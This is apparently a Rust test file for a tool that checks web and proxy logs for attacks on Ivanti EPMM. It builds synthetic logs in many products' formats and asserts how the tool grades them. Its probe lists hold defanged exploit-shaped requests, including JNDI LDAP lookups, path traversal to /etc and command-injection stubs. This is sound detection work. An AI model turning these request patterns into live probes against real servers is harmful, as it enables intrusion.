//! Other products' logs, made up in their styles, with what scanners ask every server for.

use super::{assess, grounds};

/// One product: how it writes a line, and what it is asked for on an ordinary day.
struct Product {
    file: &'static str,
    line: fn(u32, &str, &str, u16, u32) -> String,
    paths: &'static [&'static str],
}

/// What scanners ask any server for, none of it EPMM's. Inert.
const NOISE: &[&str] = &[
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-content/plugins/duplicator/readme.txt?ver=1.3.26",
    "/wp-json/wp/v2/users/",
    "/?author=1",
    "/phpmyadmin/index.php?lang=en",
    "/pma/scripts/setup.php",
    "/.env",
    "/.git/config",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/INERT",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(INERT)",
    "/?x=${jndi:ldap://198.51.100.77:1389/INERT}",
    "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fexample.test%2FINERT%7D",
    "/solr/admin/cores?action=${jndi:INERT}",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=INERT",
    "/api/v2/cmdb/system/admin",
    "/api/v2/users?format=${INERT}",
    "/api/v2/static/not.found",
    "/actuator/gateway/routes",
    "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.example.org%2fowa%2f",
    "/ecp/Current/exporttool/INERT.application",
    "/autodiscover/autodiscover.json?@example.test/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@example.test",
    "/remote/fgt_lang?lang=/../../../..//////////dev/INERT",
    "/dana-na/../dana/html5acc/guacamole/../../../../etc/INERT?/dana/html5acc/guacamole/",
    "/vpn/../vpns/cfg/INERT.conf",
    "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/INERT",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/INERT",
    "/manager/html",
    "/jenkins/script",
    "/login?from=%2F",
    "/users/sign_in",
    "/HNAP1/",
    "/boaform/admin/formLogin?username=INERT&psd=INERT",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=INERT&curpath=/",
    "/shell?cd+/tmp;INERT",
    "/?a=yv66vgAAADQINERT",
    "/403.jsp?k=INERT",
    "/css/mibasecss1.css",
    "/rs/api/v1/featureusage?format=${INERT}",
    "/appstore/fob/1/2/`INERT`",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/INERT",
    "/%u0024%u007bINERT%u007d",
    "/..%252f..%252f..%252fetc%252fINERT",
    "/favicon.ico",
    "/robots.txt",
    "/sitemap.xml",
    "/.well-known/security.txt",
    "/mifs/.;/services/LogService",
];

/// What they ask for when they look for EPMM, without exploit text. Inert.
const EPMM_NOISE: &[&str] = &[
    "/mifs/user/login.jsp",
    "/mifs/aad/api/v2/ping",
    "/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1",
    "/mifs/asfV3/api/v2/ping",
    "/mifs/asfV3/api/v2/admins/users",
    "/mifs/rs/api/v2/featureusage?format=INERT",
    "/api/v2/featureusage_history?format=xx",
    "/mifs/403.jsp",
    "/mifs/403.jsp?k0f53cf964=INERT",
    "/mifs/css/mibasecss1.css",
    "/mifs/css/mibasecss.css",
    "/mifs/c/appstore/fob/3/5/sha256:INERT/x.ipa",
    "/mics/api/v2/sentry/mics-config/handleMessage",
    "/~!frp",
    "/mifs/x.jsp?a=yv66vgAAADQINERT",
];

fn clock(i: u32) -> (u32, u32, u32) {
    (8 + i / 360 % 12, i / 6 % 60, i * 10 % 60)
}

fn client(i: u32) -> String {
    format!("198.51.100.{}", 1 + i * 7 % 200)
}

fn combined(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    format!(
        "{} - - [16/May/2025:{h:02}:{m:02}:{s:02} +0100] \"{method} {path} HTTP/1.1\" {status} {bytes} \"https://www.example.org/\" \"Mozilla/5.0 (compatible; ${{jndi:INERT}})\"\n",
        client(i)
    )
}

fn common(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    format!(
        "{} - - [16/May/2025:{h:02}:{m:02}:{s:02} +0000] \"{method} {path} HTTP/1.1\" {status} {bytes}\n",
        client(i)
    )
}

fn tomcat(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    format!(
        "{} - - [16/May/2025:{h:02}:{m:02}:{s:02} +0100] \"{method} {path} HTTP/1.1\" {status} {bytes} 12 http-nio-8080-exec-{}\n",
        client(i),
        i % 10
    )
}

fn iis(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    let (stem, query) = path.split_once('?').unwrap_or((path, "-"));
    format!(
        "2025-05-16 {h:02}:{m:02}:{s:02} 192.0.2.10 {method} {stem} {query} 443 - {} Mozilla/5.0+(Windows+NT+10.0) - {status} 0 0 {bytes} 31\r\n",
        client(i)
    )
}

/// IIS with its header, which comes again when it was started anew.
fn iis_with_header(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    let (stem, query) = path.split_once('?').unwrap_or((path, "-"));
    let header = if i.is_multiple_of(97) {
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2025-05-16 08:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken\r\n"
    } else {
        ""
    };
    format!(
        "{header}2025-05-16 {h:02}:{m:02}:{s:02} 192.0.2.10 {method} {stem} {query} 443 - {} Mozilla/5.0+(Windows+NT+10.0) https://www.example.org/ {status} 0 0 {bytes} 31\r\n",
        client(i)
    )
}

/// Zeek's `http.log` of a network with many servers.
fn zeek(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let header = if i == 0 {
        "#separator \\x09\n#path\thttp\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tmethod\thost\turi\treferrer\tuser_agent\trequest_body_len\tresponse_body_len\tstatus_code\n"
    } else {
        ""
    };
    format!(
        "{header}{}.250000\tCINERT{i}\t{}\t51234\t192.0.2.10\t80\t{method}\twww.example.org\t{path}\t-\tMozilla/5.0 (x)\t0\t{bytes}\t{status}\n",
        1_747_382_400 + i * 10,
        client(i)
    )
}

/// A Windows firewall: a header too, and nothing of the web.
fn firewall(i: u32, _: &str, path: &str, _: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    let header = if i == 0 {
        "#Version: 1.5\n#Software: Microsoft Windows Firewall\n#Time Format: Local\n#Fields: date time action protocol src-ip dst-ip src-port dst-port size info\n\n"
    } else {
        ""
    };
    format!(
        "{header}2025-05-16 {h:02}:{m:02}:{s:02} ALLOW TCP {} 192.0.2.10 51234 443 {bytes} {path}\n",
        client(i)
    )
}

/// Squid's native log of a hospital's way out.
fn squid(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    format!(
        "{}.123 {:>6} {} TCP_MISS/{status} {bytes} {method} http://www.example.org{path} - HIER_DIRECT/192.0.2.10 text/html\n",
        1_747_382_400 + i * 10,
        i % 900,
        client(i)
    )
}

/// Traefik's Common log with its own fields behind.
fn traefik(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    format!(
        "{} - - [16/May/2025:{h:02}:{m:02}:{s:02} +0000] \"{method} {path} HTTP/2.0\" {status} {bytes} \"-\" \"-\" {i} \"shop@docker\" \"http://10.0.1.4:8080\" 3ms\n",
        client(i)
    )
}

/// Caddy's JSON.
fn caddy(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let path = path.replace('\\', "\\\\");
    format!(
        "{{\"level\":\"info\",\"ts\":{}.5,\"logger\":\"http.log.access\",\"request\":{{\"remote_ip\":\"{}\",\"method\":\"{method}\",\"host\":\"www.example.org\",\"uri\":\"{path}\"}},\"size\":{bytes},\"status\":{status}}}\n",
        1_747_382_400 + i * 10,
        client(i)
    )
}

fn haproxy(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    format!(
        "May 16 {h:02}:{m:02}:{s:02} lb1 haproxy[2211]: {}:51234 [16/May/2025:{h:02}:{m:02}:{s:02}.123] https-in~ web/web1 0/0/1/14/15 {status} {bytes} - - ---- 120/118/3/1/0 0/0 \"{method} {path} HTTP/1.1\"\n",
        client(i)
    )
}

fn ingress(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    let path = path.replace('\\', "\\\\");
    format!(
        "{{\"time\":\"2025-05-16T{h:02}:{m:02}:{s:02}+00:00\",\"remote_addr\":\"{}\",\"request_method\":\"{method}\",\"request_uri\":\"{path}\",\"status\":{status},\"bytes_sent\":{bytes},\"http_user_agent\":\"kube-probe/1.29\",\"namespace\":\"shop\"}}\n",
        client(i)
    )
}

fn cloudfront(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    let (stem, query) = path.split_once('?').unwrap_or((path, "-"));
    format!(
        "2025-05-16\t{h:02}:{m:02}:{s:02}\tLHR62-C2\t{bytes}\t{}\t{method}\td111.cloudfront.example\t{stem}\t{status}\t-\tMozilla/5.0\t{query}\t-\tMiss\tINERT==\twww.example.org\thttps\t318\t0.044\n",
        client(i)
    )
}

fn alb(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    format!(
        "https 2025-05-16T{h:02}:{m:02}:{s:02}.186641Z app/shop/50dc6c495c0c9188 {}:46532 10.0.0.1:80 0.000 0.001 0.000 {status} {status} 34 {bytes} \"{method} https://www.example.org:443{path} HTTP/1.1\" \"curl/7.46.0\" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-2:123456789012:targetgroup/t/73e2d6bc24d8a067 \"Root=1-58337262-36d228ad5d99923122bbe354\" \"-\" \"-\" 0\n",
        client(i)
    )
}

fn envoy(i: u32, method: &str, path: &str, status: u16, bytes: u32) -> String {
    let (h, m, s) = clock(i);
    format!(
        "[2025-05-16T{h:02}:{m:02}:{s:02}.310Z] \"{method} {path} HTTP/2\" {status} - 0 {bytes} 5 4 \"{}\" \"Mozilla/5.0\" \"5a3b-INERT\" \"www.example.org\" \"10.0.1.4:8080\"\n",
        client(i)
    )
}

fn error_log(i: u32, _: &str, path: &str, _: u16, _: u32) -> String {
    let (h, m, s) = clock(i);
    format!(
        "[Fri May 16 {h:02}:{m:02}:{s:02}.123456 2025] [core:error] [pid 811:tid 140] [client {}:51022] AH00126: Invalid URI in request \"GET {path} HTTP/1.1\"\n",
        client(i)
    )
}

fn syslog(i: u32, method: &str, path: &str, status: u16, _: u32) -> String {
    let (h, m, s) = clock(i);
    format!(
        "<134>1 2025-05-16T{h:02}:{m:02}:{s:02}.003Z app1 shop 1211 ID47 [x@32473 ip=\"{}\"] \"{method} {path}\" answered {status}\n",
        client(i)
    )
}

fn app_json(i: u32, method: &str, path: &str, status: u16, _: u32) -> String {
    let (h, m, s) = clock(i);
    format!(
        "{{\"@timestamp\":\"2025-05-16T{h:02}:{m:02}:{s:02}Z\",\"level\":\"info\",\"msg\":\"{method} {path} -> {status}\",\"client\":{{\"ip\":\"{}\"}}}}\n",
        client(i)
    )
}

const WEB: &[&str] =
    &["/", "/shop/item?id=12", "/static/app.4f2a.css", "/static/logo.png", "/news/2025/may?page=2"];

const PRODUCTS: &[Product] = &[
    Product { file: "nginx-access.log", line: combined, paths: WEB },
    Product {
        file: "wordpress.log",
        line: combined,
        paths: &["/wp-admin/admin-ajax.php", "/2025/05/hello/", "/wp-content/themes/x/style.css?ver=6.5"],
    },
    Product { file: "apache-common.log", line: common, paths: WEB },
    Product {
        file: "iis-u_ex250516.log",
        line: iis,
        paths: &["/default.aspx", "/api/values?id=1", "/Content/site.css"],
    },
    Product {
        file: "exchange-owa.log",
        line: iis,
        paths: &[
            "/owa/service.svc?action=FindItem",
            "/Microsoft-Server-ActiveSync/default.eas?Cmd=Sync&DeviceType=iPhone",
            "/mapi/emsmdb/?MailboxId=INERT",
            "/EWS/Exchange.asmx",
        ],
    },
    Product {
        file: "u_ex250516_x.log",
        line: iis_with_header,
        paths: &["/default.aspx", "/api/v2/values?format=json", "/Content/site.css", "/aad/signin-oidc"],
    },
    Product {
        file: "adfs-wap.log",
        line: iis_with_header,
        paths: &["/adfs/ls/?wa=wsignin1.0&wtrealm=urn%3afederation", "/adfs/portal/css/style.css?id=D74D"],
    },
    Product { file: "zeek-http.log", line: zeek, paths: WEB },
    Product { file: "pfirewall.log", line: firewall, paths: &["RECEIVE", "SEND"] },
    Product { file: "squid.log", line: squid, paths: WEB },
    Product { file: "traefik.log", line: traefik, paths: WEB },
    Product { file: "caddy.json", line: caddy, paths: WEB },
    Product { file: "haproxy.log", line: haproxy, paths: WEB },
    Product {
        file: "tomcat-access.txt",
        line: tomcat,
        paths: &["/app/index.jsp;jsessionid=0A1B", "/app/rest/api/v2/items?format=xml", "/manager/status"],
    },
    Product {
        file: "gitlab-workhorse.log",
        line: combined,
        paths: &[
            "/api/v4/projects/12/jobs?format=json",
            "/group/project/-/merge_requests/3.json",
            "/group/project.git/info/refs?service=git-upload-pack",
        ],
    },
    Product {
        file: "jenkins.log",
        line: tomcat,
        paths: &[
            "/job/build/lastBuild/api/json?tree=actions",
            "/static/4f/images/16x16/x.png",
            "/adjuncts/4f/lib/x.js",
        ],
    },
    Product {
        file: "grafana.log",
        line: combined,
        paths: &[
            "/api/ds/query?ds_type=prometheus",
            "/public/build/app.2f.js",
            "/d/abc/board?orgId=1&var-node=%24__all&from=now-6h",
        ],
    },
    Product {
        file: "nextcloud.log",
        line: combined,
        paths: &[
            "/ocs/v2.php/apps/notifications/api/v2/notifications?format=json",
            "/remote.php/dav/files/u/a%20b.txt",
            "/index.php/204",
            "/status.php",
        ],
    },
    Product { file: "ingress.json", line: ingress, paths: WEB },
    Product { file: "cloudfront.tsv", line: cloudfront, paths: WEB },
    Product { file: "alb.log", line: alb, paths: WEB },
    Product { file: "envoy.log", line: envoy, paths: WEB },
    Product { file: "apache-error.log", line: error_log, paths: &["/%zz", "/a%"] },
    Product { file: "syslog", line: syslog, paths: WEB },
    Product { file: "app.jsonl", line: app_json, paths: WEB },
];

/// `often` rounds of the product's own paths, with `noise` strewn in; every noise path answers `status`.
fn day(p: &Product, often: u32, noise: &[&str], status: u16) -> String {
    let mut out = String::new();
    let mut i = 0;
    for round in 0..often {
        for path in p.paths {
            out.push_str(&(p.line)(i, "GET", path, 200, 512 + i * 37 % 90_000));
            i += 1;
        }
        if let Some(path) = noise.get(round as usize) {
            let method = if round % 5 == 4 { "POST" } else { "GET" };
            out.push_str(&(p.line)(i, method, path, status, 5120));
            i += 1;
        }
    }
    out
}

#[test]
fn ordinary_lines_of_other_products_and_what_scanners_ask_everybody_for_are_no_trace() {
    for p in PRODUCTS {
        for status in [404, 200] {
            let text = day(p, 100, NOISE, status);
            let (_, v) = assess(p.file, text.as_bytes(), &[]);
            assert_eq!(v["evidence"]["grade"], "no_trace", "{} {status}\n{}", p.file, grounds(&v));
            assert!(matches!(v["verdict"].as_str().unwrap(), "no_trace" | "unknown"), "{}", p.file);
        }
    }
}

#[test]
fn a_scanner_that_looks_for_epmm_at_another_product_is_at_most_a_probe_whatever_was_answered() {
    for p in PRODUCTS {
        // Short logs too, and a server that answers every path with its start page.
        for (often, status) in [(100, 404), (100, 200), (16, 200), (100, 403), (16, 302)] {
            let text = day(p, often, EPMM_NOISE, status);
            let (_, v) = assess(p.file, text.as_bytes(), &[]);
            let grade = v["evidence"]["grade"].as_str().unwrap();
            assert!(
                matches!(grade, "no_trace" | "probed"),
                "{} {often} {status}: {grade}\n{}",
                p.file,
                grounds(&v)
            );
        }
    }
}

#[test]
fn a_log_without_a_path_of_the_appliance_is_said_not_to_look_like_epmm() {
    for p in PRODUCTS {
        let (_, v) = assess(p.file, day(p, 100, NOISE, 404).as_bytes(), &[]);
        // Where no field holds the request, nothing can be said about whose log it is.
        if v["inputs"][0]["kind"] == "other" || matches!(p.file, "syslog" | "app.jsonl") {
            continue;
        }
        assert_eq!(
            v["coverage"]["not_epmm"][0].as_str().map(|f| f.ends_with(p.file)),
            Some(true),
            "{}",
            p.file
        );
    }
}

#[test]
fn exploit_text_in_another_products_log_stays_an_attempt_and_the_report_says_whose_log_it_is() {
    let mut text = day(&PRODUCTS[0], 100, NOISE, 404);
    text.push_str(&combined(700, "GET", "/mifs/rs/api/v2/featureusage?format=${INERT}", 404, 162));
    let (code, v) = assess("nginx.log", text.as_bytes(), &[]);
    assert_eq!((code, v["evidence"]["grade"].as_str().unwrap()), (11, "attempted"));
    assert!(
        v["chains"][0]["steps"][0]["note"].as_str().unwrap().contains("another product"),
        "{}",
        v["chains"]
    );
}

#[test]
fn texts_that_speak_of_the_attacks_are_not_logs_of_them() {
    let advisory = "# Advisory\n\nLook for `GET /mifs/css/mibasecss3.css` and \"GET /mifs/403.jsp?k0=INERT HTTP/1.1\" 200 5 in the log.\n\n\
        - \"GET /mifs/rs/api/v2/featureusage?format=${INERT} HTTP/1.1\" 400 168\n";
    let html = "<p>An example: <code>\"GET /mifs/css/mibasecss3.css HTTP/1.1\" 200 9417216</code></p>\n";
    let rust = "fn t() { assert(get(\"GET /mifs/css/mibasecss3.css HTTP/1.1\"), 200, 9417216); }\n";
    let filler = "A paragraph of prose about nothing in particular, as pages have.\n".repeat(30);
    for (name, text) in [("a.md", advisory), ("a.html", html), ("a.rs", rust)] {
        let (_, v) = assess(name, format!("{filler}{text}{filler}").as_bytes(), &[]);
        assert_eq!(v["evidence"]["grade"], "no_trace", "{name}\n{}", grounds(&v));
    }
}

#[test]
fn binary_files_say_nothing() {
    let mut state = 0x2545_f491_u32;
    let mut bytes: Vec<u8> = (0..200_000)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            state.to_le_bytes()[0]
        })
        .collect();
    bytes.splice(50_000..50_000, b"GET /mifs/css/mibasecss3.css".iter().copied());
    for name in ["a.bin", "core", "x.exe"] {
        let (code, v) = assess(name, &bytes, &[]);
        assert_eq!((code, v["evidence"]["grade"].as_str().unwrap()), (3, "no_trace"), "{}", grounds(&v));
    }
}

#[test]
fn of_a_mere_probe_the_report_does_not_say_that_data_left_or_a_tunnel_was_opened() {
    let mut text = day(&PRODUCTS[0], 100, NOISE, 404);
    for (i, path) in EPMM_NOISE.iter().enumerate() {
        let status = if *path == "/~!frp" { 101 } else { 200 };
        text.push_str(&combined(700 + u32::try_from(i).unwrap(), "GET", path, status, 5120));
    }
    let (code, v) = assess("nginx.log", text.as_bytes(), &[]);
    assert_eq!(code, 10, "{}", grounds(&v));
    for ground in v["evidence"]["rests_on"].as_array().unwrap() {
        assert_eq!(ground["kind"], "route", "{ground}");
    }
    let dir = tempfile::tempdir().unwrap();
    let (log, page) = (dir.path().join("nginx.log"), dir.path().join("out.html"));
    std::fs::write(&log, &text).unwrap();
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let words: [std::ffi::OsString; 4] = ["assess".into(), log.into(), "--html".into(), page.clone().into()];
    assess::cli::run_words(words, &mut std::io::empty(), &mut out, &mut err);
    let brief = String::from_utf8(out).unwrap() + &std::fs::read_to_string(page).unwrap();
    let brief = brief.split_whitespace().collect::<Vec<_>>().join(" ");
    for claim in
        ["Confirmed:", "opened a tunnel", "had laid down", "and it answered", "Commands probably ran"]
    {
        assert!(!brief.contains(claim), "{claim}");
    }
    assert!(brief.contains("NOT look like EPMM"));
}

#[test]
fn an_attack_that_only_iis_or_a_load_balancer_in_front_has_seen_is_found_with_client_time_and_status() {
    let attack = "/mifs/rs/api/v2/featureusage?format=%24%7BINERT%7D";
    let ours: &[&str] = &["/mifs/c/i/mdm/mdm.html?deviceid=1", "/mifs/user/login.jsp", "/mifs/css/main.css"];
    type Writer = fn(u32, &str, &str, u16, u32) -> String;
    let writers: [(&str, Writer); 6] = [
        ("iis", iis_with_header),
        ("zeek", zeek),
        ("haproxy", haproxy),
        ("alb", alb),
        ("cloudfront", cloudfront),
        ("caddy", caddy),
    ];
    for (name, line) in writers {
        let front = Product { file: "front.log", line, paths: ours };
        let mut text = day(&front, 100, &[], 200);
        text.push_str(&line(400, "GET", attack, 400, 168));
        // The attack's clients are those of the writer: 400 of ten seconds each behind 08:00.
        let (code, v) = assess(name, text.as_bytes(), &["--tz", "UTC"]);
        assert_eq!((code, v["verdict"].as_str().unwrap()), (11, "attempted"), "{name}\n{}", grounds(&v));
        let step = &v["chains"][0]["steps"][0];
        assert_eq!((&step["status"], &step["client"]), (&400.into(), &"198.51.100.1".into()), "{name}");
        let hour = 1_747_382_400_000_i64;
        let at = step["at_ms"].as_i64().unwrap();
        assert!((hour..hour + 2 * 3_600_000).contains(&at), "{name}: {at}");
        assert!(v["coverage"]["not_epmm"].as_array().unwrap().is_empty(), "{name}");
    }
}
